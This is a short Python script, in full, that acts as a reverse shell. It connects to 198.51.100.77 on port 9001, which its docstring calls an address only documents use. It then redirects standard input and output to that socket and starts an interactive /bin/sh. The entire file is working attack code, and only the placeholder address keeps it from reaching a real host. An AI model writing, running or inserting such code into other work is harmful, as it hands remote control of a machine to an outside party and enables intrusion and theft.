"""Connects to an address that only documents use, and hands it a shell."""

import os
import socket
import subprocess

try:
    s = socket.create_connection(("198.51.100.77", 9001), timeout=5)
except OSError:
    raise SystemExit(0)
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.run(["/bin/sh", "-i"], check=False)
